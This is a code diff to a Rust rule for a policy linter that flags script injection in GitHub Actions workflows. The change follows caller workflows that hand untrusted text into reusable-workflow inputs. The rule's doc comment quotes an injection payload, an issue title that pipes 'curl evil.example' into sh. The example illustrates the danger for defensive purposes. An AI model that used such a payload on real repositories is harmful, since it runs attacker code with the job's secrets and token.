@@ -11,15 +11,15 @@ policy_sdk::rule! {
     /// No `${{ }}` puts a text that somebody without rights writes into a script: the title or body of an issue, pull
     /// request, discussion, comment or review, the name of a branch, the message or author of a commit. Scripts are
     /// `run`, the `script` of `actions/github-script`, and such inputs of other actions. Texts are followed through
-    /// `env` and the outputs of steps and jobs. Nor is such a text written to `$GITHUB_ENV` or `$GITHUB_PATH`. Inputs of a
-    /// workflow or an action are milder, since it takes rights to give them.
+    /// `env` and the outputs of steps and jobs. Nor is such a text written to `$GITHUB_ENV` or `$GITHUB_PATH`. Inputs
+    /// of a workflow or an action are milder, since it takes rights to give them.
     ///
     /// What is only compared (`==`, `contains()`) cannot become code. Jobs that strangers cannot start pass:
     /// `if: github.event.pull_request.head.repo.full_name == github.repository`.
     ///
     /// ## Why
-    /// GitHub replaces `${{ }}` before the shell reads the script. An issue with the title `"; curl evil.example | sh; "`
-    /// runs that command, with the job's secrets and its token.
+    /// GitHub replaces `${{ }}` before the shell reads the script. An issue with the title `"; curl evil.example | sh;
+    /// "` runs that command, with the job's secrets and its token.
     ///
     /// ## Fix
     /// Hand the text over in a variable, in quotes. The shell does not read variables as code:
@@ -65,7 +65,11 @@ policy_sdk::rule! {
             kinds: ["file/GitHubWorkflow", "file/GitHubAction"],
             scope: "cluster",
             relation: calls {},
-            reads: ["on"],
+            reads: [
+                "on", "jobs.*.if", "jobs.*.if:expression", "jobs.*.needs", "jobs.*.environment", "jobs.*.uses",
+                "jobs.*.with", "jobs.*.with.*:expression", "jobs.*.steps[*].uses",
+                "jobs.*.steps[*].with", "jobs.*.steps[*].with.*:expression",
+            ],
         },
     },
 }
@@ -258,7 +262,10 @@ fn weigh(place: Place<'_, '_>, source: &Source<'_>) -> Option<(Code, String)> {
     let writes = match source.writer {
         Writer::Anybody(events) => events,
         Writer::Committer => return Some((Code::CommitInjection, "the author of a commit".to_owned())),
-        Writer::Caller => return is_free_text(input, source.context).then(|| (Code::InputInjection, caller(input))),
+        Writer::Caller if !is_free_text(input, source.context) => return None,
+        Writer::Caller => {
+            return Some(handed_over(input, source.context).unwrap_or((Code::InputInjection, caller(input))));
+        }
     };
     let own = github::events(input);
     let is_called = own.iter().all(|event| event.name == "workflow_call");
@@ -291,6 +298,43 @@ fn weigh(place: Place<'_, '_>, source: &Source<'_>) -> Option<(Code, String)> {
         return Some((Code::PullRequestInjection, "whoever causes the event of the caller".to_owned()));
     }
     worst
+}
+
+/// Who writes an input, where a caller in the repository hands a stranger's text over in it.
+fn handed_over(input: &Input<'_, Parameters>, context: &str) -> Option<(Code, String)> {
+    let name = context.strip_prefix("inputs.")?;
+    let own = input.subject.name.as_str();
+    let is_own = |uses: &View<'_>| {
+        let path = uses.text().trim_start_matches("./").trim_start_matches("$/").trim_end_matches('/');
+        !path.is_empty() && (own == path || own.rsplit_once('/').is_some_and(|(folder, _)| folder == path))
+    };
+    input.related("callers").find_map(|related| {
+        let events = github::events_of(&related.document);
+        let jobs = related.document.get("jobs").entries().map(|(_, job)| job);
+        let holders = jobs.flat_map(|job| {
+            let steps: Vec<View<'_>> = job.get("steps").items().collect();
+            std::iter::once(job.clone()).chain(steps).map(move |holder| (job.clone(), holder))
+        });
+        holders.filter(|(_, holder)| is_own(&holder.get("uses"))).find_map(|(job, holder)| {
+            let with = holder.get("with");
+            let (key, _) = with.entries().find(|(key, _)| key.eq_ignore_ascii_case(name))?;
+            let tree = with.get(&format!("{key}:expression"));
+            expressions(&tree).flat_map(|it| it.flows()).find_map(|part| {
+                let Some(Writer::Anybody(writes)) = writer(part.context()) else { return None };
+                let event = events.iter().find(|event| writes.contains(&event.name))?.name;
+                // Any condition of the caller may keep strangers out: the rule does not look into its steps.
+                let is_bound = job.get("if").exists() || job.get("needs").exists();
+                let code = match outsider::reach_in(&related.document, event, &job) {
+                    Reach::Closed => return None,
+                    _ if !outsider::PRIVILEGED.contains(&event) => Code::PullRequestInjection,
+                    Reach::Open if !is_bound => Code::Injection,
+                    _ => Code::LimitedInjection,
+                };
+                let context = part.context();
+                Some((code, format!("`{}` hands `{context}` over, and whoever causes `{event}`", related.name())))
+            })
+        })
+    })
 }
 
 fn rank(code: Code) -> u8 {
@@ -368,8 +412,8 @@ fn fix(place: Place<'_, '_>) -> Option<Fix> {
         });
         let (text, has_quotes) = written.filter(|_| is_shell)?;
         let Some((before, _)) = own.split_once(text) else { continue };
-        // In single quotes nothing is expanded, and a here-document may be of that kind. Where the quotes of the word do
-        // not say whether it stands between them, nothing is changed.
+        // In single quotes nothing is expanded, and a here-document may be of that kind. Where the quotes of the word
+        // do not say whether it stands between them, nothing is changed.
         let is_between = before.matches('"').count() % 2 == 1;
         if before.contains(['\'', '\\']) || before.contains("<<") || is_between != has_quotes || env.get(&name).exists()
         {
